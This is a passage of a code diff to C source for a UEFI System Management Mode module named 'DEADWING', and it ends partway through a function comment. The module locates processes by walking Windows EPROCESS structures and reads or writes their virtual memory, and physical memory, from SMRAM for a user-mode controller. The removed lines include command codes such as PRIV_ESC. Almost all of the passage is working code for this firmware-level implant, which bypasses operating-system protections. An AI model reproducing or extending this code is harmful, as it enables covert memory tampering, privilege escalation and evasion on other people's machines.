@@ -2,527 +2,3446 @@
 
 #include <Library/UefiLib.h>
 #include <Library/BaseLib.h>
+#include <Library/BaseMemoryLib.h>
+#include <Library/SynchronizationLib.h>
 
 #include <IndustryStandard/Acpi.h>
 
+#include "Conf.h"
 #include "Globals.h"
 #include "Defs.h"
+#include "PML4.h"
 #include "Utils.h"
-#include "Serial.h"
+#include "Journal.h"
+#include "Log.h"
+#include "Trace.h"
+#include "Stats.h"
 #include "Memory.h"
 #include "Nt.h"
-
-#define CMD_DEADWING_PING_SMI             0xD700DEADULL
-#define CMD_DEADWING_READ_PHYS            0xD800AAABULL
-#define CMD_DEADWING_WRITE_PHYS           0xD800BBCDULL
-#define CMD_DEADWING_VIRT_TO_PHYS         0xD800FF11ULL
-#define CMD_DEADWING_READ_VIRTUAL         0xD900CCEFULL
-#define CMD_DEADWING_WRITE_VIRTUAL        0xD900DDAFULL
-#define CMD_DEADWING_PRIV_ESC             0xD100AC91ULL
-#define CMD_DEADWING_CACHE_SESSION_INFO   0xD110A110ULL
+#include "Yield.h"
+#include "Mp.h"
+#include "Hash.h"
+#include "Scan.h"
+#include "Track.h"
+#include "Monitor.h"
+#include "Entropy.h"
+#include "SaveState.h"
+#include "Profile.h"
+#include "Ring.h"
+#include "MemoryMap.h"
+#include "Acpi.h"
+#include "Smi.h"
+#include "Commands.h"
+
+// dir base of the buffer which is directly accessible by SMM (inline data region), it's neither translated nor mapped
+#define CMD_DIRECT_DIR_BASE               MAX_UINT64
+
+// dir base of the physical address owned by firmware (ACPI tables, legacy BIOS area). Unlike 0 it isn't
+// checked against the memory map: firmware keeps such structures in reserved ranges as well
+#define CMD_FIRMWARE_DIR_BASE             (MAX_UINT64 - 1)
+
+// command of the submission ring, formed on the SMM stack
+typedef struct _DEADWING_RING_COMMAND {
+	DEADWING_COMMAND  Header;
+	DEADWING_PAYLOAD  Payload;
+} DEADWING_RING_COMMAND, *PDEADWING_RING_COMMAND;
 
 DEADWING_LIVE_SESSION_INFO gLiveSession;
 
+// request and compiled patterns of the scan command, too large for the SMM stack
+STATIC DEADWING_SCAN_REQUEST gScanRequest;
+STATIC DEADWING_SCAN_MATCHER gScanMatcher;
+
+// state and packed index of every page of the current sparse read batch
+STATIC UINT8  gSparseState[DEADWING_MP_MAX_CPUS * DEADWING_MP_BATCH_PAGES];
+STATIC UINT32 gSparseIndex[DEADWING_MP_MAX_CPUS * DEADWING_MP_BATCH_PAGES];
+
+// entropy map of the current batch
+STATIC UINT8  gEntropyMap[DEADWING_MP_MAX_CPUS * DEADWING_MP_BATCH_PAGES];
+
+
+typedef struct _DEADWING_TRANSFER_CONTEXT {
+	UINT64 Dest;
+	UINT64 DestDir;
+	UINT64 Src;
+	UINT64 SrcDir;
+} DEADWING_TRANSFER_CONTEXT, *PDEADWING_TRANSFER_CONTEXT;
+
+typedef struct _DEADWING_HASH_WORK {
+	UINT32 Algorithm;
+	UINTN  DigestSize;
+	UINT64 Address;
+	UINT64 Length;
+	UINT64 DirBase;
+	UINT64 PageDigests;
+	UINT64 Batch;       // index of the first page of the current batch
+} DEADWING_HASH_WORK, *PDEADWING_HASH_WORK;
+
+// digest of the range which is being hashed. Page digests are streamed into it in order, so it
+// lives in SMRAM and is continued by the next SMI only if it stopped right at the resume cursor
+typedef struct _DEADWING_HASH_STREAM {
+	VOID                  *Request;
+	UINT64                 Range;
+	UINT64                 Streamed;    // count of page digests hashed into the context
+	DEADWING_HASH_CONTEXT  Ctx;
+} DEADWING_HASH_STREAM, *PDEADWING_HASH_STREAM;
+
+STATIC DEADWING_HASH_STREAM gHashStream;
+
+// page digests of the current batch, range digest is calculated from them
+STATIC UINT8 gHashBatchDigests[DEADWING_MP_MAX_CPUS * DEADWING_MP_BATCH_PAGES * DEADWING_HASH_MAX_DIGEST_SIZE];
+
+typedef struct _DEADWING_SCAN_WORK {
+	PDEADWING_SCAN_MATCHER Matcher;
+	UINT64                 Address;
+	UINT64                 Length;
+	UINT64                 DirBase;
+	UINT64                 Matches;
+	UINT64                 MaxMatches;
+	volatile UINT64        Found;
+} DEADWING_SCAN_WORK, *PDEADWING_SCAN_WORK;
+
+typedef struct _DEADWING_SPARSE_WORK {
+	UINT64 Address;
+	UINT64 DirBase;
+	UINT64 Data;
+	UINT64 BatchStart;
+} DEADWING_SPARSE_WORK, *PDEADWING_SPARSE_WORK;
+
+typedef struct _DEADWING_ENTROPY_WORK {
+	UINT64 Address;
+	UINT64 DirBase;
+	UINT64 BatchStart;
+} DEADWING_ENTROPY_WORK, *PDEADWING_ENTROPY_WORK;
+
+typedef struct _DEADWING_TRACK_WORK {
+	PDEADWING_TRACK_REGION Region;
+	UINT64                *Digests;
+	UINT64                 DirBase;
+	UINT64                 Changes;
+	UINT64                 Data;
+	UINT64                 MaxChanges;
+	volatile UINT64        Found;
+} DEADWING_TRACK_WORK, *PDEADWING_TRACK_WORK;
+
+typedef struct _DEADWING_HARVEST_WORK {
+	UINT64                 Mask;
+	BOOLEAN                Clear;
+	BOOLEAN                Full;
+	PDEADWING_HARVEST_PAGE Collected;
+	UINTN                  Count;
+	UINTN                  Capacity;
+	UINT64                 Found;
+	UINT64                 MaxPages;
+	UINT64                 Cleared;
+} DEADWING_HARVEST_WORK, *PDEADWING_HARVEST_WORK;
+
 
 /**
- * \brief Reads data from specified physical address
+ * \brief Maps address of the given address space into the SMRAM
  * 
- * \param AddressToRead Provided physical address
- * \param LengthToRead  Length to read from specified address
- * \param ReceivedInfo  Received data (virtual buffer)
+ * Time spent on translation is accounted to the consumer (controller) or target address space.
+ * Physical address is checked against the memory map: holes, reserved and MMIO pages are treated
+ * as absent, so none of the bulk paths touch device memory
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to translate or map address
- * \return Other - Ynable to allocate interim page
+ * \param Address Physical or virtual address
+ * \param DirBase Directory table base of the address space, 0 if address is physical or
+ *                CMD_FIRMWARE_DIR_BASE if it's physical and owned by firmware
+ * \param Cpu     Remap window and phase timings of the current CPU
+ * 
+ * \return Mapped address or 0 if we cannot translate/map it
  */
-EFI_STATUS
+UINT64
 EFIAPI
-CmdPhysRead(
-	IN VOID   *AddressToRead,
-	IN VOID   *ReceivedInfo,
-	IN UINT64  LengthToRead
+CmdMapAddress(
+	IN UINT64           Address,
+	IN UINT64           DirBase,
+	IN PDEADWING_MP_CPU Cpu
 ) {
-	SerialPrint("[ SMM ] Reading from physical memory\r\n");
-
-	// validate input
-	if((!AddressToRead || !LengthToRead || !ReceivedInfo) || LengthToRead > BASE_4KB) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to specific command\r\n");
-		return EFI_INVALID_PARAMETER;
-	}
-
-	// allocate intermediate page for storing data from read address
-	EFI_PHYSICAL_ADDRESS InterimPage;
-	EFI_STATUS Status = gSmst2->SmmAllocatePages(AllocateAnyPages, EfiRuntimeServicesData, 1, &InterimPage);
-	if(EFI_ERROR(Status)) {
-		SerialPrint("[ SMM ] Unable to allocate intermediate page\r\n");
-		return Status;
-	}
-
-	// map physical address to the SMRAM
-	UINT64 PhysMapped = MemProcessOutsideSmramPhysMemory(AddressToRead);
-	if(PhysMapped != 0) {
-		// copy data to intermediate page
-		PhysMemCpy(InterimPage, PhysMapped, LengthToRead);
+	UINT64 Mapped;
+	UINT64 Extent;
+	UINT64 Tsc = AsmReadTsc();
+
+	if(DirBase == 0)
+		Mapped = MemoryMapLookup(Address, &Extent) ? MemProcessOutsideSmramPhysMemoryEx(Address, Cpu->Window) : 0;
+	else if(DirBase == CMD_FIRMWARE_DIR_BASE)
+		Mapped = MemProcessOutsideSmramPhysMemoryEx(Address, Cpu->Window);
+	else
+		Mapped = MemMapVirtualAddressEx((VOID *)Address, DirBase, NULL, Cpu->Window);
+
+	if(DirBase != 0 && DirBase == gLiveSession.UmController.UmControllerDirBase)
+		Cpu->Timing.ConsumerTranslate += AsmReadTsc() - Tsc;
+	else
+		Cpu->Timing.TargetTranslate += AsmReadTsc() - Tsc;
+
+	return Mapped;
+}
 
-		MemRestoreSmramMappings();
+/**
+ * \brief Restores remap window of the current CPU
+ * 
+ * \param Cpu Remap window and phase timings of the current CPU
+ */
+VOID
+EFIAPI
+CmdRestoreMapping(
+	IN PDEADWING_MP_CPU Cpu
+) {
+	UINT64 Tsc = AsmReadTsc();
 
-		// map consumer address
-		UINT64 Consumer = MemMapVirtualAddress(ReceivedInfo, gLiveSession.UmController.UmControllerDirBase, NULL);
-		if(Consumer == 0) {
-			SerialPrint("[ SMM ] Unable to map consumer buffer\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_ABORTED;
-		}
+	MemRestoreSmramMappingsEx(Cpu->Window);
 
-		// copy data to the consumer buffer & map it back
-		PhysMemCpy(Consumer, InterimPage, LengthToRead);
+	Cpu->Timing.Restore += AsmReadTsc() - Tsc;
+}
 
-		MemRestoreSmramMappings();
-	} else {
-		SerialPrint("[ SMM ] Unable to map physical address\r\n");
-		gSmst2->SmmFreePages(InterimPage, 1);
-		return EFI_ABORTED;
-	}
+/**
+ * \brief Copies data between mapped buffers
+ * 
+ * \param Cpu    Phase timings of the current CPU
+ * \param Dest   Destination buffer
+ * \param Src    Source buffer
+ * \param Length Length of data
+ */
+VOID
+EFIAPI
+CmdCopyMapped(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Dest,
+	IN VOID             *Src,
+	IN UINT32            Length
+) {
+	UINT64 Tsc = AsmReadTsc();
 
-	gSmst2->SmmFreePages(InterimPage, 1);
+	PhysMemCpy(Dest, Src, Length);
 
-	return EFI_SUCCESS;
+	Cpu->Timing.Copy += AsmReadTsc() - Tsc;
 }
 
 /**
- * \brief Writes data to provided physical address
+ * \brief Copies single chunk of data between two address spaces through the bounce page of the current CPU.
  * 
- * \param AddressToWrite Provided physical address which should
- *                       be modified
- * \param DataToWrite    Provided data which should be written to
- *                       specified physical address (virtual buffer)
- * \param LengthToWrite  Size of data
+ * Chunk should not cross page boundary neither in source nor in destination address space
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to translate or map address
- * \return Other - Ynable to allocate interim page
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Dest    Destination address
+ * \param DestDir Dir base of the destination address space, 0 if destination is physical or
+ *                CMD_DIRECT_DIR_BASE if it's accessible by SMM as is
+ * \param Src     Source address
+ * \param SrcDir  Dir base of the source address space or 0, if source is physical
+ * \param Length  Length of chunk
+ * 
+ * \return EFI_SUCCESS - Chunk has been copied
+ * \return EFI_ABORTED - Unable to translate or map source or destination address
  */
 EFI_STATUS
 EFIAPI
-CmdPhysWrite(
-	IN VOID    *AddressToWrite,
-	IN VOID    *DataToWrite,
-	IN UINT64   LengthToWrite 
+CmdCopyChunk(
+	IN PDEADWING_MP_CPU Cpu,
+	IN UINT64           Dest,
+	IN UINT64           DestDir,
+	IN UINT64           Src,
+	IN UINT64           SrcDir,
+	IN UINT32           Length
 ) {
-	SerialPrint("[ SMM ] Writing to the physical memory\r\n");
-
-	// validate input
-	if((!AddressToWrite || !DataToWrite || !LengthToWrite) || LengthToWrite > BASE_4KB) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to specific command\r\n");
-		return EFI_INVALID_PARAMETER;
+	// map source and copy its content to the bounce page
+	UINT64 Mapped = CmdMapAddress(Src, SrcDir, Cpu);
+	if(Mapped == 0) {
+		LOG_ERROR("[ SMM ] Unable to translate and map source address\r\n");
+		return EFI_ABORTED;
 	}
 
-	// allocate intermediate page for storing data from donor buffer
-	EFI_PHYSICAL_ADDRESS InterimPage;
-	EFI_STATUS Status = gSmst2->SmmAllocatePages(AllocateAnyPages, EfiRuntimeServicesData, 1, &InterimPage);
-	if(EFI_ERROR(Status)) {
-		SerialPrint("[ SMM ] Unable to allocate intermediate page\r\n");
-		return Status;
-	}
+	// direct destination doesn't need the bounce page
+	if(DestDir == CMD_DIRECT_DIR_BASE) {
+		CmdCopyMapped(Cpu, (VOID *)Dest, (VOID *)Mapped, Length);
 
-	UINT64 Donor = MemMapVirtualAddress(DataToWrite, gLiveSession.UmController.UmControllerDirBase, NULL);
-	if(Donor != NULL) {
-		// copy data to the intermediate page
-		PhysMemCpy(InterimPage, Donor, LengthToWrite);
+		CmdRestoreMapping(Cpu);
 
-		MemRestoreSmramMappings();
+		STATS_ADD(BytesCopied, Length);
 
-		// map target physical memory to the SMRAM
-		UINT64 PhysMapped = MemProcessOutsideSmramPhysMemory(AddressToWrite);
-		if(PhysMapped == 0) {
-			SerialPrint("[ SMM ] Unable to map physical memory to the SMRAM\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_ABORTED;
-		}
+		return EFI_SUCCESS;
+	}
 
-		// copy data to the target address
-		PhysMemCpy(PhysMapped, InterimPage, LengthToWrite);
+	CmdCopyMapped(Cpu, (VOID *)Cpu->Bounce, (VOID *)Mapped, Length);
 
-		MemRestoreSmramMappings();
-	} else {
-		SerialPrint("[ SMM ] Unable to map donor buffer to the SMRAM\r\n");
-		gSmst2->SmmFreePages(InterimPage, 1);
+	CmdRestoreMapping(Cpu);
+
+	// map destination and copy data
+	Mapped = CmdMapAddress(Dest, DestDir, Cpu);
+	if(Mapped == 0) {
+		LOG_ERROR("[ SMM ] Unable to translate and map destination address\r\n");
 		return EFI_ABORTED;
 	}
 
-	gSmst2->SmmFreePages(InterimPage, 1);
+	CmdCopyMapped(Cpu, (VOID *)Mapped, (VOID *)Cpu->Bounce, Length);
+
+	CmdRestoreMapping(Cpu);
+
+	STATS_ADD(BytesCopied, Length);
 
 	return EFI_SUCCESS;
 }
 
 /**
- * \brief Reads data from provided virtual address.
+ * \brief Fills single chunk of the destination with zeros. Chunk should not cross page boundary
  * 
- * Function checks if paging enabled. If system can work with paging, we'll
- * translate provided virtual address to physical and read data from it.
- * 
- * \param TargetPid     PID of the target process
- * \param AddressToRead Virtual address which should be translated before
- *                      reading from it
- * \param LengthToRead  Length to read from provided address
- * \param ReceivedInfo  Received data
+ * \param Cpu     Remap window of the current CPU
+ * \param Dest    Destination address
+ * \param DestDir Dir base of the destination address space, 0 if destination is physical or
+ *                CMD_DIRECT_DIR_BASE if it's accessible by SMM as is
+ * \param Length  Length of chunk
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to translate and map virtual address to physical
- * \return EFI_NOT_FOUND - Cannot find dir base
- * \return Other - Ynable to allocate interim page
+ * \return EFI_SUCCESS - Chunk has been filled
+ * \return EFI_ABORTED - Unable to translate or map destination address
  */
 EFI_STATUS
 EFIAPI
-CmdVirtualRead(
-	IN UINT64   TargetPid,
-	IN VOID    *AddressToRead,
-	IN VOID    *ReceivedInfo,
-	IN UINT64   LengthToRead
+CmdZeroChunk(
+	IN PDEADWING_MP_CPU Cpu,
+	IN UINT64           Dest,
+	IN UINT64           DestDir,
+	IN UINT32           Length
 ) {
-	SerialPrint("[ SMM ] Reading from virtual memory\r\n");
-
-	// validate input
-	if((!AddressToRead || !LengthToRead || !ReceivedInfo) || LengthToRead > BASE_4KB || !TargetPid) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to va read command\r\n");
-		return EFI_INVALID_PARAMETER;
+	if(DestDir == CMD_DIRECT_DIR_BASE) {
+		ZeroMem((VOID *)Dest, Length);
+		return EFI_SUCCESS;
 	}
 
-	// allocate intermediate page for storing read address contents
-	EFI_PHYSICAL_ADDRESS InterimPage;
-	EFI_STATUS Status = gSmst2->SmmAllocatePages(AllocateAnyPages, EfiRuntimeServicesData, 1, &InterimPage);
-	if(EFI_ERROR(Status)) {
-		SerialPrint("[ SMM ] Unable to allocate itermediate page\r\n");
-		return Status;
+	UINT64 Mapped = CmdMapAddress(Dest, DestDir, Cpu);
+	if(Mapped == 0) {
+		LOG_ERROR("[ SMM ] Unable to translate and map destination address\r\n");
+		return EFI_ABORTED;
 	}
 
-	// map physical address of system EPROCESS into the SMRAM region
-	UINT64 MappedEprocess = MemProcessOutsideSmramPhysMemory(gLiveSession.SysProcess.PhysPsInitialSysProcess, gRemapPage);
-	if(MappedEprocess != 0) {
-		// get target process dir base
-		UINT64 TargetDirBase = NtGetDirBaseByPid(TargetPid, MappedEprocess, gLiveSession.SysProcess.DirBase, NULL);
-		if(TargetDirBase == 0) {
-			SerialPrint("[ SMM ] Unable to get target process dir base\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_NOT_FOUND;
-		}
+	ZeroMem((VOID *)Mapped, Length);
 
-		// translate read address and copy its content to the intermediate page
-		UINT64 TranslatedReadTarget = MemMapVirtualAddress(AddressToRead, TargetDirBase, NULL);
-		if(TranslatedReadTarget == 0) {
-			SerialPrint("[ SMM ] Unable to translate and map read address\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_ABORTED;
+	CmdRestoreMapping(Cpu);
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Copies [Start, End) part of the transfer page by page, runs on any CPU.
+ * 
+ * Physical source is checked against the memory map: holes, reserved and MMIO ranges
+ * are not touched and destination receives zeros instead. Map is looked up once per range
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Transfer context
+ * \param Start   Offset of the first byte
+ * \param End     Offset after the last byte
+ * 
+ * \return EFI_SUCCESS - Part has been copied
+ * \return EFI_ABORTED - Unable to translate or map address
+ */
+EFI_STATUS
+EFIAPI
+CmdTransferWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_TRANSFER_CONTEXT *Ctx = (DEADWING_TRANSFER_CONTEXT *)Context;
+
+	// range of the memory map which covers the current offset
+	UINT64 RangeEnd = End;
+	BOOLEAN IsRam = TRUE;
+	if(Ctx->SrcDir == 0)
+		RangeEnd = Start;
+
+	for(UINT64 Offset = Start; Offset < End;) {
+		if(Offset == RangeEnd) {
+			UINT64 Extent;
+			IsRam = MemoryMapLookup(Ctx->Src + Offset, &Extent);
+			RangeEnd = Offset + MIN(Extent, End - Offset);
 		}
 
-		PhysMemCpy(InterimPage, TranslatedReadTarget, LengthToRead);
+		// chunk should not cross page boundary on both sides
+		UINT64 Chunk = RangeEnd - Offset;
+		Chunk = MIN(Chunk, EFI_PAGE_SIZE - ((Ctx->Src + Offset) & EFI_PAGE_MASK));
+		Chunk = MIN(Chunk, EFI_PAGE_SIZE - ((Ctx->Dest + Offset) & EFI_PAGE_MASK));
 
-		// restore mappings
-		MemRestoreSmramMappings();
+		EFI_STATUS Status;
+		if(IsRam)
+			Status = CmdCopyChunk(Cpu, Ctx->Dest + Offset, Ctx->DestDir, Ctx->Src + Offset, Ctx->SrcDir, (UINT32)Chunk);
+		else
+			Status = CmdZeroChunk(Cpu, Ctx->Dest + Offset, Ctx->DestDir, (UINT32)Chunk);
 
-		// translate consumer buffer
-		UINT64 TranslatedConsumer = MemMapVirtualAddress(ReceivedInfo, gLiveSession.UmController.UmControllerDirBase, NULL);
-		if(TranslatedConsumer == 0) {
-			SerialPrint("[ SMM ] Unable to translate and map consumer address\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_ABORTED;
-		}
+		if(EFI_ERROR(Status))
+			return Status;
 
-		// copy data
-		PhysMemCpy(TranslatedConsumer, InterimPage, LengthToRead);
-		
-		MemRestoreSmramMappings();
-	} else {
-		SerialPrint("[ SMM ] Unable to map system EPROCESS into SMRAM region\r\n");
-		gSmst2->SmmFreePages(InterimPage, 1);
-		return EFI_ABORTED;
+		Offset += Chunk;
 	}
 
-	gSmst2->SmmFreePages(InterimPage, 1);
-
 	return EFI_SUCCESS;
 }
 
 /**
- * \brief Writes to provided virtual address.
+ * \brief Copies data between two address spaces.
  * 
- * Function checks if paging enabled. If system can work with paging, we'll translate
- * provided virtual address to physical and write data to it
+ * Data is copied in batches, each batch is split across all available CPUs. Transfer 
+ * is resumable: once TSC budget of the current SMI is exhausted, progress is saved
+ * in the cursor and EFI_NOT_READY is returned. The next SMI with the same packet continues 
+ * from the saved offset. At least one batch is copied per SMI, so transfer always progresses
  * 
- * \param TargetPid      PID of the target process
- * \param AddressToWrite Virtual address which should be translated and modified by 
- *                       provided data
- * \param DataToWrite    Data which should be written at specified address
- * \param LengthToWrite  Size of data
+ * \param Dest    Destination address
+ * \param DestDir Dir base of the destination address space, 0 if destination is physical or
+ *                CMD_DIRECT_DIR_BASE if it's accessible by SMM as is
+ * \param Src     Source address
+ * \param SrcDir  Dir base of the source address space or 0, if source is physical
+ * \param Length  Length of data
+ * \param Cursor  Offset to start from, receives offset where transfer stopped
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to translate and map virtual address to physical
- * \return EFI_NOT_FOUND - Cannot find dir base
- * \return Other - Ynable to allocate interim page
+ * \return EFI_SUCCESS - All data has been copied
+ * \return EFI_NOT_READY - TSC budget exhausted, transfer should be resumed
+ * \return EFI_INVALID_PARAMETER - Cursor is out of range
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return Other - Unable to allocate per-CPU contexts
  */
 EFI_STATUS
 EFIAPI
-CmdVirtualWrite(
-	IN UINT64  TargetPid,
-	IN VOID   *AddressToWrite,
-	IN VOID   *DataToWrite,
-	IN UINT64  LengthToWrite
+CmdTransfer(
+	IN     UINT64  Dest,
+	IN     UINT64  DestDir,
+	IN     UINT64  Src,
+	IN     UINT64  SrcDir,
+	IN     UINT64  Length,
+	IN OUT UINT64 *Cursor
 ) {
-	SerialPrint("[ SMM ] Writing to the virtual memory\r\n");
-
-	// validate input
-	if((!AddressToWrite || !DataToWrite || !LengthToWrite) || LengthToWrite > BASE_4KB || !TargetPid) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to specific command\r\n");
+	if(*Cursor >= Length) {
+		LOG_ERROR("[ SMM ] Invalid resume cursor\r\n");
 		return EFI_INVALID_PARAMETER;
 	}
 
-	// allocate intermediate page for storing donor buffer content
-	EFI_PHYSICAL_ADDRESS InterimPage;
-	EFI_STATUS Status = gSmst2->SmmAllocatePages(AllocateAnyPages, EfiRuntimeServicesData, 1, &InterimPage);
-	if(EFI_ERROR(Status)) {
-		SerialPrint("[ SMM ] Unable to allocate itermediate page\r\n");
-		return Status;
-	}
-
-	UINT64 MappedEprocess = MemProcessOutsideSmramPhysMemory(gLiveSession.SysProcess.PhysPsInitialSysProcess, gRemapPage);
-	if(MappedEprocess != NULL) {
-		// get target process dir base
-		UINT64 TargetDirBase = NtGetDirBaseByPid(TargetPid, MappedEprocess, gLiveSession.SysProcess.DirBase, NULL);
-		if(TargetDirBase == 0) {
-			SerialPrint("[ SMM ] Unable to get target process dir base\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_NOT_FOUND;
+	DEADWING_TRANSFER_CONTEXT Ctx;
+	Ctx.Dest = Dest;
+	Ctx.DestDir = DestDir;
+	Ctx.Src = Src;
+	Ctx.SrcDir = SrcDir;
+
+	EFI_STATUS Status = EFI_SUCCESS;
+	UINT64 Batch = MpGetBatchLength();
+	UINT64 Offset = *Cursor;
+	while(Offset < Length) {
+		// check budget only after the first batch to guarantee forward progress
+		if(Offset != *Cursor && YieldBudgetExhausted()) {
+			Status = EFI_NOT_READY;
+			break;
 		}
 
-		// translate donor buffer address and copy data to the intermediate page
-		UINT64 TranslatedDataDonor = MemMapVirtualAddress(DataToWrite, gLiveSession.UmController.UmControllerDirBase, NULL);
-		if(TranslatedDataDonor == 0) {
-			SerialPrint("[ SMM ] Unable to translate donor buffer address\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
-			return EFI_ABORTED;
-		}
+		UINT64 Chunk = MIN(Length - Offset, Batch);
 
-		PhysMemCpy(InterimPage, TranslatedDataDonor, LengthToWrite);
+		Status = MpDispatch(CmdTransferWorker, &Ctx, Offset, Chunk, DEADWING_MP_MIN_LENGTH);
+		if(EFI_ERROR(Status))
+			break;
 
-		// restore mappings
-		MemRestoreSmramMappings();
+		Offset += Chunk;
+	}
+
+	// save progress
+	*Cursor = Offset;
+
+	return Status;
+}
+
+/**
+ * \brief Reads data of the given address space into the SMRAM buffer
+ * 
+ * \param Cpu    Remap window of the current CPU
+ * \param Dest   SMRAM buffer
+ * \param Src    Source address
+ * \param SrcDir Dir base of the source address space or 0, if source is physical
+ * \param Length Length of data
+ * 
+ * \return EFI_SUCCESS - Data has been read
+ * \return EFI_ABORTED - Unable to translate or map source address
+ */
+EFI_STATUS
+EFIAPI
+CmdReadFromAddress(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Dest,
+	IN UINT64            Src,
+	IN UINT64            SrcDir,
+	IN UINT64            Length
+) {
+	for(UINT64 Offset = 0; Offset < Length;) {
+		UINT64 Chunk = MIN(Length - Offset, EFI_PAGE_SIZE - ((Src + Offset) & EFI_PAGE_MASK));
 
-		// translate target address
-		UINT64 TranslatedWriteAddress = MemMapVirtualAddress(AddressToWrite, TargetDirBase, NULL);
-		if(TranslatedWriteAddress == 0) {
-			SerialPrint("[ SMM ] Unable to translate target write address\r\n");
-			gSmst2->SmmFreePages(InterimPage, 1);
+		UINT64 Mapped = CmdMapAddress(Src + Offset, SrcDir, Cpu);
+		if(Mapped == 0)
 			return EFI_ABORTED;
-		}
 
-		// write data
-		PhysMemCpy(TranslatedWriteAddress, InterimPage, LengthToWrite);
-	
-		MemRestoreSmramMappings();
-	} else {
-		SerialPrint("[ SMM ] Unable to map system EPROCESS into SMRAM region\r\n");
-		gSmst2->SmmFreePages(InterimPage, 1);
-		return EFI_ABORTED;
+		CmdCopyMapped(Cpu, (UINT8 *)Dest + Offset, (VOID *)Mapped, (UINT32)Chunk);
+
+		CmdRestoreMapping(Cpu);
+
+		Offset += Chunk;
 	}
 
-	gSmst2->SmmFreePages(InterimPage, 1);
+	STATS_ADD(BytesCopied, Length);
 
 	return EFI_SUCCESS;
 }
 
 /**
- * \brief Caches current session - saves system & controller app EPROCESSes and Dir bases.
+ * \brief Writes data from the SMRAM buffer into the given address space
  * 
- * \param VirtualEprocess Virtual address of system's EPROCESS structure
- * \param DirBase         Directory table base of the kernel
+ * \param Cpu     Remap window of the current CPU
+ * \param Dest    Destination address
+ * \param DestDir Dir base of the destination address space or 0, if destination is physical
+ * \param Src     SMRAM buffer
+ * \param Length  Length of data
  * 
- * \return EFI_SUCCESS - Data has been cached succesfully
- * \return EFI_INVALID_PARAMETER - EPROCESS address and/or Directory table base is NULL
- * \return EFI_ABORTED - Unable to translate EPROCESS address, find kernel base address or
- *                       cache export table
+ * \return EFI_SUCCESS - Data has been written
+ * \return EFI_ABORTED - Unable to translate or map destination address
  */
 EFI_STATUS
 EFIAPI
-CmdCacheSessionInfo(
-	IN UINT64  ControllerPid,
-	IN VOID   *VirtualEprocess,
-	IN UINT64  DirBase
+CmdWriteToAddress(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN UINT64            Dest,
+	IN UINT64            DestDir,
+	IN VOID             *Src,
+	IN UINT64            Length
 ) {
-	SerialPrint("[ SMM ] Trying to cache session info\r\n");
-
-	if(!ControllerPid || !VirtualEprocess || !DirBase) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to caching function\r\n");
-		return EFI_INVALID_PARAMETER;
-	}
+	for(UINT64 Offset = 0; Offset < Length;) {
+		UINT64 Chunk = MIN(Length - Offset, EFI_PAGE_SIZE - ((Dest + Offset) & EFI_PAGE_MASK));
 
-	// translate address of PsInitialSystemProcess
-	VOID *UmEprocess = NULL;
-	UINT64 UmDirBase = 0;
-	VOID *UnmappedSysEprocess = NULL;
-	UINT64 PhysEprocess = MemMapVirtualAddress(VirtualEprocess, DirBase, &UnmappedSysEprocess);
-	if(PhysEprocess != 0) {
-		// get controller process dir base & EPROCESS
-		UmDirBase = NtGetDirBaseByPid(ControllerPid, (VOID *)PhysEprocess, DirBase, &UmEprocess);
-		if(UmDirBase == 0 || UmEprocess == 0) {
-			SerialPrint("[ SMM ] Cannot get dir base of the controller UM application\r\n");
+		UINT64 Mapped = CmdMapAddress(Dest + Offset, DestDir, Cpu);
+		if(Mapped == 0)
 			return EFI_ABORTED;
-		}
-	} else {
-		SerialPrint("[ SMM ] Unable to get physical address of PsInitialSystemProcess\r\n");
-		return EFI_ABORTED; 
-	}
 
-	// cache all info
-	gLiveSession.SysProcess.PhysPsInitialSysProcess = (VOID *)UnmappedSysEprocess;
-	gLiveSession.SysProcess.DirBase = DirBase;
-	gLiveSession.UmController.PhysUmControllerEprocess = (VOID *)UmEprocess;
-	gLiveSession.UmController.UmControllerDirBase = UmDirBase;
+		CmdCopyMapped(Cpu, (VOID *)Mapped, (UINT8 *)Src + Offset, (UINT32)Chunk);
 
-	SerialPrint("[ SMM ] Session info has been cached\r\n");
+		CmdRestoreMapping(Cpu);
+
+		Offset += Chunk;
+	}
+
+	STATS_ADD(BytesCopied, Length);
 
 	return EFI_SUCCESS;
 }
 
 /**
- * \brief Translates provided virtual address
+ * \brief Gets dir base of the target process
  * 
- * \param TargetPid          PID of the target process
- * \param AddressToTranslate Address which should be translated
- * \param TranslatedAddress  Output translate address
+ * \param TargetPid     PID of the target process
+ * \param TargetDirBase Dir base of the target process
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to translate and map virtual address to physical
+ * \return EFI_SUCCESS - Dir base has been found
